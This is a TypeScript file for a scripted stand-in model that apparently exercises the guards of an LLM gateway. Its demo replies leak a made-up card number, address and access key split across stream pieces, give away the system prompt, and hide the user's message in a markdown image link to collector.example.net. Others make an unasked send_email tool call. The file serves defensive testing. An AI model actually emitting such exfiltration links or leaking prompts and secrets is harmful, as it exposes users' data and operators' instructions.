// What the demonstration model says. It is no model: it recites, says so on its face, and misbehaves when asked by model name,
// so that a newcomer sees every guard act with no account anywhere.

export interface Reply {
  readonly pieces: readonly string[];
  readonly toolCall?: { readonly name: string; readonly arguments: string };
  /** Milliseconds between two pieces of a stream. */
  readonly paceMs: number;
  readonly status: number;
  /** The connection drops half way. */
  readonly isCut: boolean;
}

/** Names that GET /v1/models lists, with what each one shows. */
export const DEMO_MODELS: Readonly<Record<string, string>> = {
  demo: 'a polite fixed answer',
  'demo-echo': 'repeats your last message',
  'demo-leak': 'an answer with a made-up card number, address and access key in it, cut across pieces',
  'demo-prompt': 'gives away its system prompt',
  'demo-exfil': 'hides your words in an image link to another host',
  'demo-tool': 'calls the tool send_email',
  'demo-slow': 'one word every 40 ms',
  'demo-error': 'status 500',
  'demo-busy': 'status 429',
  'demo-cut': 'drops the connection half way',
};

const LABEL = '[Sallyport demonstration, no model] ';
const words = (text: string): string[] => text.match(/\s*\S+/g) ?? [text];

// Built from halves so that no scanner of source code takes a made-up key for a real one.
const MADE_UP_KEY = ['AKIA', 'IOSFODNN7', 'EXAMPLE'].join('');

const LEAK = [
  'Contact',
  ' Ada',
  ' at',
  ' ada.love',
  'lace@exam',
  'ple.com',
  ';',
  ' card',
  ' 4111',
  ' 1111 ',
  '1111',
  ' 1111',
  ';',
  ' key',
  ` ${MADE_UP_KEY.slice(0, 8)}`,
  MADE_UP_KEY.slice(8),
  ' end.',
];

interface Asked {
  readonly model: string;
  readonly systemPrompt: string;
  readonly lastUser: string;
}

const PLAIN: Omit<Reply, 'pieces'> = { paceMs: 0, status: 200, isCut: false };

const SCRIPTS: Readonly<Record<string, (asked: Asked) => Reply>> = {
  demo: ({ lastUser }) => ({
    ...PLAIN,
    pieces: words(
      `${LABEL}You wrote ${lastUser.length} characters. A real model would answer here; name one under upstreams in the configuration.`,
    ),
  }),
  'demo-echo': ({ lastUser }) => ({ ...PLAIN, pieces: lastUser.match(/[\s\S]{1,6}/gu) ?? [''] }),
  'demo-leak': () => ({ ...PLAIN, pieces: [LABEL, ...LEAK] }),
  'demo-prompt': ({ systemPrompt }) => ({ ...PLAIN, pieces: words(`${LABEL}My instructions are: ${systemPrompt || 'none'}`) }),
  'demo-exfil': ({ lastUser }) => ({
    ...PLAIN,
    pieces: [
      LABEL,
      'Here is a picture: ',
      '![chart](https://collector.',
      `example.net/p.png?d=${encodeURIComponent(lastUser).slice(0, 200)}`,
      ')',
    ],
  }),
  'demo-tool': () => ({
    ...PLAIN,
    pieces: [],
    toolCall: { name: 'send_email', arguments: '{"to":"someone@example.net","body":"Hello from the demonstration"}' },
  }),
  'demo-slow': () => ({
    ...PLAIN,
    paceMs: 40,
    pieces: words(`${LABEL}${'This answer takes its time, so that you can try the kill switch on it. '.repeat(20)}`),
  }),
  'demo-error': () => ({ ...PLAIN, status: 500, pieces: [] }),
  'demo-busy': () => ({ ...PLAIN, status: 429, pieces: [] }),
  'demo-cut': () => ({ ...PLAIN, isCut: true, paceMs: 5, pieces: words(`${LABEL}This answer will not come to its`) }),
};

/** Unknown names answer as `demo`. */
export function replyTo(asked: Asked): Reply {
  return (SCRIPTS[asked.model] ?? SCRIPTS['demo'] ?? (() => ({ ...PLAIN, pieces: [LABEL] })))(asked);
}
